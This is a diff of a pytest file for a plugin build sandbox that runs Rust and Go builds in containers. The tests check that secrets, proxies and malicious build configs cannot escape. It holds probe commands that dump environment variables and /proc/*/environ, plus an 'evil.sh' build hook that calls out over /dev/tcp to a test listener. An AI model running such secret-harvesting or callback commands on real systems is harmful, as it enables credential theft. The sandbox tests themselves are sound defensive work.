@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import contextlib
 import json
 import socketserver
 import threading
@@ -7,12 +8,14 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from docker.errors import APIError
 
-from tests.machine.builds import GO_PLUGIN, RUST_PLUGIN, Bench
+from pluginyard.errors import BuildError
+from tests.machine.builds import GO_PLUGIN, RUST_PLUGIN, Bench, pack_context
 
 MODULE = '"$HOME/../out/plugin.wasm"'
 DONE = f"echo x > {MODULE}"
-SECRET = "pass-4711-word"  # noqa: S105
+SECRET = "pass-4711-word"
 
 
 @pytest.fixture
@@ -87,7 +90,7 @@ def test_the_limits_are_those_of_the_settings(bench: Bench) -> None:
 def test_mirrors_proxies_and_authorities_reach_the_fetch_step_only(bench: Bench, tmp_path: Path) -> None:
     bundle = tmp_path / "ca.pem"
     bundle.write_text("AUTHORITY-OF-THIS-SITE\n")
-    look = "echo {}; env; cat /pluginyard-ca.pem 2>&1; cat \"$SSL_CERT_FILE\" 2>&1"
+    look = 'echo {}; env; cat /pluginyard-ca.pem 2>&1; cat "$SSL_CERT_FILE" 2>&1'
     mirrors = {"HTTPS_PROXY": "http://proxy.example.com:3128", "GOPROXY": "https://mirror.example.com"}
     chosen = bench.allowing(ca_bundle=str(bundle), fetch_environment=mirrors)
     chosen.shell(f"{look.format('COMPILING')}; {DONE}", fetching=look.format("FETCHING") + "; true")
@@ -107,9 +110,12 @@ def test_no_password_of_this_process_reaches_a_container(bench: Bench, monkeypat
         told.append(text)
         client = bench.engine.client
         for each in client.containers(filters={"label": f"io.pluginyard.run={bench.run_id}"}):
-            told.append(json.dumps([client.inspect_container(each["Id"]), client.top(each["Id"])]))
+            told.append(json.dumps(client.inspect_container(each["Id"])))
+            with contextlib.suppress(APIError):  # it may have ended just now
+                told.append(json.dumps(client.top(each["Id"])))
 
-    everything = "env; cat /proc/*/cmdline /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; sleep 1; grep -rs {} /work /tmp; echo end"
+    everything = "env; cat /proc/*/cmdline /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; sleep 1; "
+    everything += "grep -rs {} /work /tmp; echo end"
     bench.shell(f"{everything.format('pass-4711')}; {DONE}", fetching=everything.format("pass-4711"), log=look)
     text = "\n".join(told)
     assert "PLUGINYARD_FOLDER" in text
@@ -118,15 +124,26 @@ def test_no_password_of_this_process_reaches_a_container(bench: Bench, monkeypat
     assert "somebody" not in text
 
 
-def test_the_source_of_a_crate_names_no_program_for_the_fetch_step(bench: Bench) -> None:
-    files = {**RUST_PLUGIN, ".cargo/config.toml": '[build]\nrustc = "./evil.sh"\n', "evil.sh": "echo EVIL RAN >&2; exit 1\n"}
-    with pytest.raises(Exception, match="evil"):
-        bench.build("rust", files, needs_fetch=True)
-    assert "Locking" not in bench.log
-    chosen = bench.builders["rust"].files["fetch.sh"]
-    assert b'cd "$PLUGINYARD_WORK/home"' in chosen
+def test_a_crate_names_no_program_that_runs_in_the_fetch_step(
+    bench: Bench, listener: tuple[str, int, list[bytes]]
+) -> None:
+    host, port, heard = listener
+    files = {
+        **RUST_PLUGIN,
+        ".cargo/config.toml": '[build]\nrustc = "./evil.sh"\n',
+        "evil.sh": f"#!/bin/bash\necho EVIL >&2\necho called > /dev/tcp/{host}/{port}\nexit 1\n",
+    }
+    context = pack_context(files, bench.folder / "evil.tar", mode=0o755)
+    with pytest.raises(BuildError, match="EVIL") as raised:  # it does run, where there is no network
+        bench.build("rust", context=context, needs_fetch=True)
+    assert "did not compile" in raised.value.message
+    assert heard == []
 
 
 def test_go_flags_in_the_source_are_not_honoured(bench: Bench) -> None:
-    files = {**GO_PLUGIN, "go.env": "GOFLAGS=-toolexec=/bin/false\n", ".config/go/env": "GOFLAGS=-toolexec=/bin/false\n"}
+    files = {
+        **GO_PLUGIN,
+        "go.env": "GOFLAGS=-toolexec=/bin/false\n",
+        ".config/go/env": "GOFLAGS=-toolexec=/bin/false\n",
+    }
     assert bench.build("go", files, needs_fetch=False).size > 0
